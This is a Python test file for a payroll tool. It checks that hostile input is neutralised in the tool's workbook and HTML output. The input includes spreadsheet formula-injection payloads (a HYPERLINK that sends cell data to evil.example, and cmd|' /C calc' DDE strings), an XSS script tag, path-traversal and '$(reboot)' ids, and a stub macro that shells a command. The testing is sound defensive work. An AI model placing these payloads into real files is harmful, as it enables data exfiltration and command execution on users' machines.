"""Hostile content (issue 6): formula injection into every output workbook, manager ids that try to
leave slips/, and input workbooks with macros, external links and formulas (values are read, nothing
is executed or fetched; a formula without a calculated value is an error naming the cell)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
import xlsxwriter

from cm_payroll.months import parse_month
from cm_payroll.render.slips import slip_filename
from cm_payroll.rulebooks import module_for
from cm_payroll.validate import load_month
from tests.bad_input.month import (CLIENTS_HEADER, MONTH, OVERRIDES_HEADER, Month, optional_file, valid_month,
                                   xlsx_bytes)
from tests.robustness.util import assert_clean_failure, cli, report

MOD = module_for("securities")

# --------------------------------------------------------------------------------------------- injection

NAMES = {"A1": '=HYPERLINK("http://evil.example/?"&A1,"查看")',
         "A2": "+cmd|' /C calc'!A0",
         "B1": "@SUM(1+1)*cmd|' /C calc'!A0<script>alert(1)</script>"}
BRANCHES = {"A1": "-2+3+cmd|' /C calc'!A0", "A2": "-2+3+cmd|' /C calc'!A0", "B1": "=1+1"}
REASONS = {"A1": "=cmd|' /C notepad'!A0", "A2": "-1+1 总经理特批"}
APPROVALS = {"A1": "@SP-1", "A2": "+AP-2"}
MARKERS = ("cmd|", "evil.example", "1+1", "2+3", "SP-1", "AP-2", "<script>")


def hostile_month() -> Month:
    m = valid_month()
    r = m.sheet("roster")
    for row in r.rows:
        row[r.col("姓名")] = NAMES[row[0]]
        row[r.col("营业部")] = BRANCHES[row[0]]
    m.files["overrides"] = optional_file("overrides", OVERRIDES_HEADER, [
        [mid, "other_reward", amount, REASONS[mid], APPROVALS[mid]] for mid, amount in (("A1", "100"), ("A2", "50"))])
    return m


def _workbooks(*folders: Path) -> list[Path]:
    return sorted(p for f in folders for p in f.rglob("*.xlsx"))


def test_formula_injection_is_text_in_every_output_workbook(tmp_path: Path) -> None:
    inp, out, whatif = tmp_path / "in", tmp_path / "out", tmp_path / "whatif"
    hostile_month().write(inp)
    proc = cli("month", MONTH, "-i", str(inp), "-o", str(out), "--format", "xlsx,html")
    assert proc.returncode == 0, report(proc)
    proc = cli("month", MONTH, "-i", str(inp), "-o", str(out), "--what-if", str(whatif))
    assert proc.returncode == 0, report(proc)
    books = _workbooks(out / MONTH, whatif)
    kinds = {p.name if p.parent.name != "slips" else "slip" for p in books}
    assert {f"payroll_{MONTH}.xlsx", f"exceptions_{MONTH}.xlsx", "slip"} <= kinds and len(books) >= 6, kinds
    payloads = [*NAMES.values(), *BRANCHES.values(), *REASONS.values(), *APPROVALS.values()]
    seen: dict[str, set[str]] = {p: set() for p in payloads}
    for book in books:
        wb = openpyxl.load_workbook(book)          # formulas as written, not values
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    v = cell.value
                    if cell.data_type == "f":
                        assert not any(m in str(v) for m in MARKERS), f"{book.name}!{ws.title}{cell.coordinate}: {v}"
                    elif isinstance(v, str) and any(m in v for m in MARKERS):
                        assert cell.data_type in ("s", "inlineStr"), (book.name, cell.coordinate, cell.data_type)
                        for p in payloads:
                            if p in v:
                                seen[p].add(book.parent.name if book.parent.name == "slips" else book.name)
    for mid, name in NAMES.items():
        assert {f"payroll_{MONTH}.xlsx", "slips"} <= seen[name], (name, seen[name])
    for branch in BRANCHES.values():
        assert {f"payroll_{MONTH}.xlsx", "slips"} <= seen[branch], (branch, seen[branch])
    for text in [*REASONS.values(), *APPROVALS.values()]:
        assert f"exceptions_{MONTH}.xlsx" in seen[text], (text, seen[text])
    assert any(b.parent == whatif for b in books) and any(NAMES["A1"] in str(c.value) for b in books
                                                          if b.parent == whatif
                                                          for ws in openpyxl.load_workbook(b).worksheets
                                                          for row in ws.iter_rows() for c in row)
    # the HTML slips escape the markup
    pages = sorted((out / MONTH / "slips").glob("*.html"))
    assert [p.name for p in pages] == ["A1.html", "A2.html", "B1.html"]
    for page in pages:
        assert "<script>alert" not in page.read_text("utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[2].read_text("utf-8")


# --------------------------------------------------------------------------------------------- ids

BAD_IDS = ["../../x", "..", "CON", "con", "Lpt1", "AUX", "NUL", "COM1", "/etc/passwd", "C:\\x", "A\\B", "A/B",
           "A1\u200b", "A\u202eB", "A1\x07", "A.xlsx", ".hidden", "-rf", "x" * 65, "~root", "A B", "$(reboot)"]


def test_hostile_manager_ids_are_rejected_and_never_reach_the_disk(tmp_path: Path) -> None:
    m = valid_month()
    r = m.sheet("roster")
    template = list(r.rows[0])
    rows = {}
    for bad in BAD_IDS:
        rows[r.add([bad, *template[1:]])] = bad
    rows[r.add(["a1", *template[1:]])] = "a1"                         # A1 and a1: one slip file on Windows
    sup = r.add(["Z9", *template[1:5], "PRN", *template[6:]])          # a supervisor id that is a device name
    inp, out = tmp_path / "in", tmp_path / "out"
    m.write(inp)
    proc = cli("month", MONTH, "-i", str(inp), "-o", str(out), "--json")
    assert proc.returncode == 1, report(proc)
    assert "Traceback" not in proc.stderr
    import json
    errors = json.loads(proc.stdout)["errors"]
    at = {(e["file"], e["row"], e["column"]) for e in errors}
    for row, bad in rows.items():
        assert ("roster.xlsx", row, "工号") in at, (bad, row, errors)
    assert ("roster.xlsx", 2, "工号") in at                            # A1, the other spelling of a1
    assert ("roster.xlsx", sup, "片区经理工号") in at
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]      # a refused new root leaves no folder
    for bad in BAD_IDS + ["prn", "COM9"]:
        with pytest.raises(ValueError):
            slip_filename(bad)


def test_slip_files_stay_in_slips(tmp_path: Path) -> None:
    """Every file a run writes is under its month folder, slips only in slips/, named by plain ids."""
    inp, out = tmp_path / "in", tmp_path / "out"
    hostile_month().write(inp)
    assert cli("month", MONTH, "-i", str(inp), "-o", str(out), "-q").returncode == 0
    month = (out / MONTH).resolve()
    for p in month.rglob("*"):
        assert p.resolve().is_relative_to(month)
    assert sorted(p.name for p in (month / "slips").iterdir()) == ["A1.xlsx", "A2.xlsx", "B1.xlsx"]


# --------------------------------------------------------------------------------------------- input workbooks

def typed(folder: Path):
    return load_month(folder, parse_month(MONTH), MOD.FILES, "", MOD.TRACKS)


def _replace(folder: Path, stem: str, name: str, data: bytes) -> None:
    for old in folder.glob(f"{stem}.*"):
        old.unlink()
    (folder / name).write_bytes(data)


def test_xlsm_with_a_macro_is_read_as_data(tmp_path: Path) -> None:
    vba = tmp_path / "vbaProject.bin"
    # not a working VBA project: what matters is that the part is there and nothing runs it
    vba.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"ThisWorkbook\"\r\n"
                    b"Sub Workbook_Open()\r\n  Shell \"touch " + str(tmp_path / "PWNED").encode() + b"\"\r\nEnd Sub\r\n")
    folder = valid_month().write(tmp_path / "in")
    m = valid_month()
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("花名册")
    for i, row in enumerate(m.sheet("roster").grid()):
        for j, v in enumerate(row):
            if v is not None:
                ws.write(i, j, v.isoformat() if hasattr(v, "isoformat") else v)
    wb.add_vba_project(str(vba))
    wb.close()
    data = buf.getvalue()
    assert "xl/vbaProject.bin" in zipfile.ZipFile(io.BytesIO(data)).namelist()
    _replace(folder, "roster", "roster.xlsm", data)
    inputs, issues = typed(folder)
    assert not issues, [i.render() for i in issues]
    assert inputs.tables["roster"].file == "roster.xlsm"
    assert inputs["roster"].get_column("name").to_list() == ["张三", "李四", "王五"]
    assert not (tmp_path / "PWNED").exists()


def _clients_with_external_link(target: str) -> bytes:
    """clients.xlsx as Excel saves a workbook whose 净收入 of row 2 comes from another workbook
    ([1]Sheet1!H2, cached 10000) and whose 姓名-like text cell of row 3's 客户来源 is a DDE formula with
    a cached text value."""
    m = valid_month()
    data = xlsx_bytes([("客户资产", m.sheet("clients").grid())])
    zin = zipfile.ZipFile(io.BytesIO(data))
    parts = {i.filename: zin.read(i) for i in zin.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(r'<c r="H2"([^>]*)><v>[^<]*</v></c>', r'<c r="H2"\1><f>[1]Sheet1!H2</f><v>10000</v></c>', sheet)
    sheet = re.sub(r'<c r="C3"[^>]*>.*?</c>',
                   '<c r="C3" t="str"><f>cmd|\' /C calc\'!A0</f><v>内部转入</v></c>', sheet)
    assert "[1]Sheet1!H2" in sheet and "cmd|" in sheet
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    wbx = parts["xl/workbook.xml"].decode()
    wbx = re.sub(r"<calcPr[^>]*/>", '<calcPr calcId="191029"/>', wbx)          # as Excel saves it
    wbx = wbx.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>')
    parts["xl/workbook.xml"] = wbx.encode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode().replace(
        "</Relationships>", '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
    parts["xl/_rels/workbook.xml.rels"] = rels.encode()
    parts["xl/externalLinks/externalLink1.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.'
        'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet>'
        '<sheetData sheetId="0"><row r="2"><cell r="H2"><v>10000</v></cell></row></sheetData></sheetDataSet>'
        "</externalBook></externalLink>").encode()
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.'
        'org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/externalLinkPath" Target="{target}" TargetMode="External"/>'
        "</Relationships>").encode()
    ct = parts["[Content_Types].xml"].decode().replace(
        "</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    parts["[Content_Types].xml"] = ct.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body)
    return out.getvalue()


def test_external_links_and_dde_formulas_read_their_saved_values(tmp_path: Path) -> None:
    other = tmp_path / "secret.xlsx"          # the linked workbook holds another value: it is not opened
    other.write_bytes(xlsx_bytes([("Sheet1", [["x"] * 8, [None] * 7 + [99999]])]))
    folder = valid_month().write(tmp_path / "in")
    _replace(folder, "clients", "clients.xlsx", _clients_with_external_link(other.as_uri()))
    inputs, issues = typed(folder)
    assert not issues, [i.render() for i in issues]
    c = inputs["clients"]
    assert c.filter((pl.col("manager_id") == "A1") & (pl.col("client_id") == "C1"))["net_income"].to_list() == [1_000_000]
    assert c.filter((pl.col("manager_id") == "A1") & (pl.col("client_id") == "C2"))["origin"].to_list() == ["transferred"]


def _openpyxl_clients(tmp_path: Path, totals_formula: bool = False) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "客户资产"
    ws.append(CLIENTS_HEADER)
    for i, row in enumerate(valid_month().sheet("clients").rows, start=2):
        ws.append(row[:6] + [f"=(E{i}+F{i})/2", row[7]])
    if totals_formula:
        ws.append(["合计", None, None, None, "=SUM(E2:E5)", "=SUM(F2:F5)", "=SUM(G2:G5)", "=SUM(H2:H5)"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_formula_without_a_calculated_value_is_an_error_naming_the_cell(tmp_path: Path) -> None:
    folder = valid_month().write(tmp_path / "in")
    _replace(folder, "clients", "clients.xlsx", _openpyxl_clients(tmp_path, totals_formula=True))
    _, issues = typed(folder)
    assert sorted((i.file, i.sheet, i.row, i.column) for i in issues) == [
        ("clients.xlsx", "客户资产", r, "日均资产") for r in (2, 3, 4, 5)], [i.render() for i in issues]
    assert all("formula without a calculated value" in i.message for i in issues)


def test_formula_never_calculated_is_an_error(tmp_path: Path) -> None:
    """xlsxwriter (like many generators) stores 0 as a formula's value and asks Excel to recalculate on
    opening (fullCalcOnLoad): that 0 is not the value."""
    m = valid_month()
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("客户资产")
    ws.write_row(0, 0, CLIENTS_HEADER)
    for i, row in enumerate(m.sheet("clients").rows, start=1):
        ws.write_row(i, 0, row[:7])
        ws.write_formula(i, 7, f"=G{i + 1}/200")
    wb.close()
    folder = m.write(tmp_path / "in")
    _replace(folder, "clients", "clients.xlsx", buf.getvalue())
    _, issues = typed(folder)
    assert sorted((i.row, i.column) for i in issues) == [(r, "净收入") for r in (2, 3, 4, 5)], \
        [i.render() for i in issues]
    assert "never calculated" in issues[0].message


def test_formula_error_through_the_cli(tmp_path: Path) -> None:
    folder = valid_month().write(tmp_path / "in")
    _replace(folder, "clients", "clients.xlsx", _openpyxl_clients(tmp_path))
    proc = cli("month", MONTH, "-i", str(tmp_path / "in"), "-o", str(tmp_path / "out"))
    assert_clean_failure(proc, 1, "clients.xlsx, sheet 客户资产, row 2, column 日均资产",
                         "formula without a calculated value")


def test_folder_names_that_look_like_console_markup(tmp_path: Path) -> None:
    """Paths are shown as text: before the fix, a folder "[payroll]" vanished from the messages and one
    named "[/y]" crashed the console (a traceback after a good run)."""
    inp, out = tmp_path / "in[/x]", tmp_path / "[payroll]" / "out[/y]"
    valid_month().write(inp)
    proc = cli("month", MONTH, "-i", str(inp), "-o", str(out), "--paid-through", MONTH)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, report(proc)
    assert "[payroll]/out[/y]" in "".join(proc.stdout.split()), proc.stdout
    again = cli("month", MONTH, "-i", str(inp), "-o", str(out))
    assert_clean_failure(again, 3, "is released")
    (out / ".ledger" / "HEAD.json").write_text("{")
    broken = cli("month", MONTH, "-i", str(inp), "-o", str(out))
    assert_clean_failure(broken, 3, f"{out}/.ledger/HEAD.json", "damaged")
